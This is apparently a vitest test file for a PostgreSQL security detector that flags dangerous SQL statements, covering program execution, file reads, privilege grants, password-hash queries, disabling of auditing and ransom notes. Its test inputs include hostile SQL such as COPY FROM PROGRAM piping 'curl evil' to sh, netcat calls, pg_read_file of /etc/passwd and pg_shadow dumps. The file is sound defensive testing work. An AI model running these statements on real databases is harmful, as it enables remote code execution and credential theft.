import { describe, expect, it } from 'vitest';
import { ActivityClass } from '../../model/activity.ts';
import { ErrorState } from '../../sql/error-state.ts';
import { at, brazil, day, type Happening, replay, signIn } from '../testkit.ts';
import { dangerousStatement } from './dangerous-statement.ts';

const SECOND = 1000;
const NIGHT = at(9, 2);
const DAY = day(1) - day(0);

/** `postgres` sends a statement from Brazil. */
function statement(sql: string, what: Partial<Happening> = {}): Happening {
  return signIn({
    class: ActivityClass.statement,
    time: NIGHT,
    principal: 'postgres',
    address: brazil,
    statement: sql,
    ...what,
  });
}

function refused(sql: string, what: Partial<Happening> = {}): Happening {
  const status = ErrorState.insufficientPrivilege;
  return statement(sql, { class: ActivityClass.statementError, status, ...what });
}

function found(history: readonly Happening[], settings: object = {}) {
  return replay(dangerousStatement, history, settings).map(({ finding }) => [finding.variant, finding.severity]);
}

describe('fires', () => {
  it('on a program run through COPY, and tells who, what, from where, and that it is not usual', () => {
    const [{ finding, count }, ...more] = replay(dangerousStatement, [
      statement("COPY x FROM PROGRAM 'curl evil|sh';"),
    ]);

    expect(more).toEqual([]);
    expect(count).toBe(1);
    expect(finding).toMatchObject({
      alertType: 'SQL.PostgreSQL_DangerousStatement',
      variant: 'program',
      displayName: 'Program run through the database',
      severity: 'High',
      confidence: 'high',
      summary:
        "postgres from 203.0.113.7 (Brazil, AS28573 Claro NXT) used SQL to run a program on the server at orders: COPY x FROM PROGRAM '?'; it had done nothing of the kind before.",
      attack: { tactic: 'TA0002', technique: 'T1059' },
      entities: { principal: 'postgres', address: brazil, application: 'psql', database: 'orders' },
      observed: { Outcome: 'no error followed' },
    });
    expect(JSON.stringify(finding)).not.toContain('evil');
  });

  it.each([
    ["COPY (SELECT * FROM t) TO PROGRAM 'nc host 1'", 'program', 'High'],
    ["COPY t FROM/**/ PROGRAM\n'id'", 'program', 'High'],
    ["DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''id'''; END $$", 'program', 'High'],
    ["ALTER SYSTEM SET archive_command = 'sh x'", 'program', 'Medium'],
    ["SELECT pg_read_file('/etc/passwd')", 'file', 'High'],
    ['SELECT pg_catalog."pg_read_binary_file"(\'x\')', 'file', 'High'],
    ["SELECT lo_export(1, '/tmp/x')", 'file', 'High'],
    ["SELECT pg_ls_dir('/etc')", 'file', 'Low'],
    ["COPY t FROM '/tmp/t.csv'", 'file', 'Medium'],
    ["CREATE FUNCTION f(text) RETURNS int AS '/tmp/x.so', 'f' LANGUAGE 'C'", 'language', 'High'],
    ['DO LANGUAGE plpython3u $$ import os $$', 'language', 'High'],
    ['CREATE EXTENSION plperlu', 'language', 'Medium'],
    ["ALTER SYSTEM SET shared_preload_libraries = '/tmp/x.so'", 'language', 'High'],
    ["CREATE ROLE a SUPERUSER PASSWORD 'x'", 'privilege', 'High'],
    ['ALTER USER a WITH REPLICATION', 'privilege', 'Medium'],
    ['GRANT pg_execute_server_program TO a', 'privilege', 'High'],
    ['GRANT pg_read_all_data TO a', 'privilege', 'Medium'],
    ['SELECT usename, passwd FROM pg_shadow', 'password hashes', 'High'],
    ["ALTER SYSTEM SET log_statement = 'none'", 'audit off', 'High'],
    ["SET pgaudit.log = 'none'", 'audit off', 'Medium'],
    ["SELECT set_config('log_min_messages', 'panic', false)", 'audit off', 'Medium'],
    ["SELECT dblink_connect('host=x')", 'outside connection', 'Low'],
    ['CREATE TABLE readme_to_recover (note text)', 'ransom', 'Medium'],
    ['CREATE SCHEMA how_to_decrypt', 'ransom', 'Medium'],
    ['ALTER DATABASE shop RENAME TO readme_to_recover', 'ransom', 'Medium'],
  ])('on %s', (sql, variant, severity) => {
    expect(found([statement(sql)])).toEqual([[variant, severity]]);
  });

  it('on a ransom note among the ruins', () => {
    const history = [
      statement('DROP TABLE a, b, c'),
      statement('CREATE TABLE warning (note text)', { time: NIGHT + SECOND }),
    ];

    expect(found(history)).toEqual([['ransom', 'High']]);
    expect(found([statement('CREATE TABLE warning (note text)')])).toEqual([]);
  });

  it('on a ransom note after tables were dropped whose names code puts together', () => {
    const loop = (drop: string) =>
      statement(`DO $$ BEGIN FOR t IN SELECT tablename FROM pg_tables LOOP EXECUTE ${drop}; END LOOP; END $$`);
    const note = statement('CREATE TABLE warning (note text)', { time: NIGHT + SECOND });

    expect(found([loop("'DROP TABLE IF EXISTS ' || quote_ident(t)"), note])).toEqual([['ransom', 'High']]);
    expect(found([loop("'DROP TABLE IF EXISTS old_orders'"), note])).toEqual([]);
  });

  it('on one alert for each kind of thing, however many statements', () => {
    const history = Array.from({ length: 40 }, (_, n) => [
      statement(`COPY t${n} FROM PROGRAM 'id'`, { time: NIGHT + n * SECOND }),
      statement('ALTER ROLE a SUPERUSER', { time: NIGHT + n * SECOND }),
    ]).flat();
    const alerts = replay(dangerousStatement, history);

    expect(alerts.map(({ finding, count }) => [finding.variant, count])).toEqual([
      ['program', 40],
      ['privilege', 40],
    ]);
    expect(alerts[0]?.finding.observed.Statements.split('\n')).toHaveLength(6);
  });

  it('less loudly on what was refused', () => {
    const [{ finding }] = replay(dangerousStatement, [refused("COPY t FROM PROGRAM 'id'")]);

    expect(finding).toMatchObject({
      variant: 'program, attempted',
      displayName: 'Attempt refused: program run through the database',
      severity: 'Medium',
      confidence: 'medium',
      observed: { Outcome: 'refused or failed' },
    });
    expect(finding.summary).toContain('tried to run a program on the server');
  });

  it('once on a statement and the error that follows it', () => {
    const sql = "COPY t FROM PROGRAM 'id'";
    const [{ finding, count }, ...more] = replay(dangerousStatement, [
      statement(sql),
      refused(sql, { time: NIGHT + 5 }),
    ]);

    expect(more).toEqual([]);
    expect({ count, variant: finding.variant }).toEqual({ count: 1, variant: 'program, attempted' });
  });

  it('again on a day after the last one, and marks what came late', () => {
    const late = statement("COPY t FROM PROGRAM 'id'", { time: NIGHT + 25 * 3_600_000, isLate: true });
    const alerts = replay(dangerousStatement, [statement("COPY t FROM PROGRAM 'id'"), late]);

    expect(alerts.map(({ finding }) => finding.isLate)).toEqual([false, true]);
  });

  it('on what somebody else does as a matter of routine', () => {
    const history = [...nightly(14), statement(EXPORT, { time: NIGHT, principal: 'mallory' })];

    expect(replay(dangerousStatement, history).at(-1)?.finding.entities.principal).toBe('mallory');
  });

  it('on another such thing by somebody with a routine, and shows the routine', () => {
    const other = statement("COPY loot FROM PROGRAM 'sh'", { time: day(12), principal: 'backup' });
    const { finding } = replay(dangerousStatement, [...nightly(12), other]).at(-1)!;

    expect(finding.summary).toMatch(/1 other such statement of it are known from before\.$/);
    expect(finding.baseline.rows).toEqual([
      ["COPY sales TO PROGRAM '?'", '2026-01-05 02:00', expect.any(String), '3', '12'],
    ]);
  });

  it('at sensitivity low on the gravest only', () => {
    expect(found([statement("COPY t FROM '/x'")], { sensitivity: 'low' })).toEqual([]);
    expect(found([statement("COPY t FROM PROGRAM 'x'")], { sensitivity: 'low' })).toHaveLength(1);
  });
});

const EXPORT = "COPY sales TO PROGRAM 'gzip > /backup/sales.gz'";

/** An export by `backup` at two in each night. */
function nightly(nights: number): Happening[] {
  return Array.from({ length: nights }, (_, n) => statement(EXPORT, { time: at(n, 2), principal: 'backup' }));
}

describe('stays quiet', () => {
  it.each([
    'COPY t TO STDOUT',
    'COPY t FROM STDIN WITH CSV',
    "SELECT 'COPY t FROM PROGRAM ''id'''",
    "INSERT INTO posts (title) VALUES ('how does pg_read_file(x) work?')",
    'SELECT id FROM t WHERE name = $1',
    'CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$',
    "CREATE FUNCTION f() RETURNS int AS '$libdir/postgis-3', 'f' LANGUAGE c",
    'CREATE EXTENSION "uuid-ossp"',
    "CREATE ROLE app LOGIN PASSWORD 'x'",
    'ALTER ROLE app NOSUPERUSER',
    'GRANT SELECT ON ALL TABLES IN SCHEMA public TO app',
    "ALTER SYSTEM SET work_mem = '64MB'",
    "ALTER SYSTEM SET log_statement = 'all'",
    "SELECT set_config('search_path', '', false)",
    'SELECT rolname FROM pg_roles',
    'DROP TABLE a',
    'TRUNCATE a, b, c, d, e',
    'CREATE TABLE readme (id int)',
    'CREATE TABLE important_dates (id int)',
    'ALTER TABLE important_dates RENAME TO dates',
  ])('for %s', (sql) => {
    expect(found([statement(sql)])).toEqual([]);
  });

  it('for what was not understood', () => {
    expect(
      found([refused("COPY t FORM PROGRAM 'id'; COPY t FROM PROGRAM 'id'", { status: ErrorState.syntaxError })]),
    ).toEqual([]);
  });

  it('but Informational for a pooler that asks for one password, and for a backup of roles', () => {
    const dump =
      'SELECT oid, rolname, rolcreaterole, rolcanlogin, rolconnlimit, rolpassword, rolvaliduntil FROM pg_authid ORDER BY 2';
    const lookup = statement('SELECT usename, passwd FROM pg_shadow WHERE usename = $1', { principal: 'pgbouncer' });

    expect(found([lookup, statement(dump)])).toEqual([
      ['password hashes', 'Informational'],
      ['password hashes', 'Informational'],
    ]);
  });

  it('for what a principal does each night since the first days', () => {
    const alerts = replay(dangerousStatement, nightly(30));

    expect(alerts.every(({ startTime }) => startTime < day(3))).toBe(true);
    expect(alerts.length).toBeGreaterThan(0);
  });

  it('only from as many days as are set, and only in the first week', () => {
    const latest = (history: readonly Happening[], settings: object) =>
      Math.max(...replay(dangerousStatement, history, settings).map(({ endTime }) => endTime));
    const begun = nightly(40).slice(20);

    expect(latest(nightly(10), { customDays: 5 })).toBe(at(4, 2));
    expect(latest([statement('SELECT 1', { time: day(0) }), ...begun], {})).toBe(begun.at(-1)!.time);
  });

  it('for a custom again only while it is remembered', () => {
    const history = (days: number) => [
      ...nightly(5),
      statement(EXPORT, { time: at(4, 2) + days * DAY, principal: 'backup' }),
    ];

    expect(found(history(60))).toHaveLength(1);
    expect(found(history(61))).toHaveLength(2);
  });
});
